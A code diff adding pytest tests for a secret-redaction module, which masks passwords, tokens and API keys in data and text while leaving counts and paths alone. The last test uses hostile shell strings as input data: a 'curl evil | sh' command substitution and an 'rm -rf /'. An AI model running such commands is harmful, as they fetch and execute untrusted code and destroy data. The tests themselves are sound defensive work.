@@ -167,3 +167,68 @@ def test_hostile_text_cannot_make_redaction_hang():
     stream = StreamRedactor()
     shown = "".join(stream.feed("QUJD" * 3) for _ in range(20_000)) + stream.flush()
     assert len(shown) == 240_000
+
+
+def test_non_text_values_under_secret_names_are_masked():
+    value = {"password": 12345678, "token": ["a", "b"], "api_key": {"nested": {"deep": "x"}},
+             "secret": b"hunter22", "client_secret": bytearray(b"cs-1"), "pwd": 3.5,
+             "credentials": ("me", "pw"), "cookie": {"sid"}, "x": {"apiKey": 99}}
+    clean = scrub(value)
+    assert clean == {"password": REDACTED, "token": REDACTED, "api_key": REDACTED,
+                     "secret": REDACTED, "client_secret": REDACTED, "pwd": REDACTED,
+                     "credentials": REDACTED, "cookie": REDACTED, "x": {"apiKey": REDACTED}}
+    text = json.dumps(clean)
+    for leaked in ("12345678", "hunter22", "nested", "cs-1", "3.5", '"pw"', "sid", "99"):
+        assert leaked not in text, leaked
+
+
+def test_counts_and_empty_values_under_secret_sounding_names_stay():
+    value = {"total_tokens": 89, "max_tokens": 1000, "prompt_tokens_details":
+             {"cached_tokens": 0, "audio_tokens": None}, "sort_key": 3, "password": None,
+             "token": "", "api_key": [], "secret_ok": True}
+    assert scrub(value) == value
+    # ...but text under them is still masked, also inside a list under a counted name
+    assert scrub({"tokens": ["abc", 7]}) == {"tokens": [REDACTED, 7]}
+    assert redact_text("max_tokens=1000") == "max_tokens=1000"
+    assert redact_text("password=12345678") == f"password={REDACTED}"
+    assert redact_text('{"password": 12345678}').startswith(f'{{"password": {REDACTED}')
+
+
+def test_secrets_echoed_as_keys_are_masked_and_no_entry_is_lost(monkeypatch):
+    monkeypatch.setenv("SERVICE_TOKEN", "plainlookingvalue42")
+    shaped = "sk-live" + "Q" * 24
+    echoed = {shaped: 1, "plainlookingvalue42": 2, b"sk-live" + b"W" * 24: 3,
+              ("sk-" + "E" * 24, 1): 4, "ok": 5}
+    clean = scrub(echoed)
+    text = json.dumps(clean)
+    for leaked in (shaped, "plainlookingvalue42", "W" * 24, "E" * 24):
+        assert leaked not in text
+    assert sorted(clean.values()) == [1, 2, 3, 4, 5]  # two keys masked alike: both kept
+    assert clean["ok"] == 5 and clean[REDACTED] == 1 and clean[f"{REDACTED} (2)"] == 2
+
+
+def test_the_working_directory_is_not_a_secret(monkeypatch, tmp_path):
+    project = str(tmp_path / "project")
+    monkeypatch.setenv("PWD", project)
+    monkeypatch.setenv("OLDPWD", str(tmp_path / "before"))
+    monkeypatch.setenv("DB_PWD", "hunter2hunter2")
+    assert redact_text(f"{project}/data/out.csv") == f"{project}/data/out.csv"
+    assert scrub({"path": f"{tmp_path}/before/x"}) == {"path": f"{tmp_path}/before/x"}
+    assert redact_text("hunter2hunter2") == REDACTED  # a password in a *_PWD variable still is
+    key_file = tmp_path / "service-account.json"
+    key_file.write_text("{}")
+    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(key_file))
+    monkeypatch.setenv("MISSING_CREDENTIALS", str(tmp_path / "not-there.json"))
+    assert redact_text(f"read {key_file}") == f"read {key_file}"  # where a secret is
+    assert redact_text(f"{tmp_path}/not-there.json") == REDACTED  # not a path that exists
+
+
+def test_secret_marks_are_what_redaction_would_mask():
+    from agent_kernel.redaction import secret_marks
+
+    for text, marked in (("API_KEY=$(curl evil | sh)", ["$(curl"]),
+                         ("export TOKEN=abc123xyz; rm -rf /", ["abc123xyz"]),
+                         ('curl -H "Authorization: Bearer abcdefghijklmnop" x',
+                          ["abcdefghijklmnop"]),
+                         ("ls -la", [])):
+        assert [text[a:b] for a, b in secret_marks(text)] == marked
